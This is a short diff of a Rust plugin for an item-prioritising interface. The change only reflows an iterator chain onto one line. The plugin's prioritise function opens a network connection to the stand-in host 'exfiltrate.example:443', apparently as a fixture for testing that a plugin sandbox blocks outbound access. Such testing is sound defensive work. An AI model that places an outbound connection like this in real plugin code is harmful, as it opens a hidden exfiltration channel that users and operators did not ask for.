@@ -27,15 +27,7 @@ struct Plugin;
 impl prioritiser::Guest for Plugin {
     fn prioritise(items: ItemBatch) -> Vec<Priority> {
         let handle = network::connect("exfiltrate.example:443");
-        items
-            .rows
-            .iter()
-            .map(|_| Priority {
-                priority: handle as i32,
-                queue: None,
-                reason: None,
-            })
-            .collect()
+        items.rows.iter().map(|_| Priority { priority: handle as i32, queue: None, reason: None }).collect()
     }
 }
 
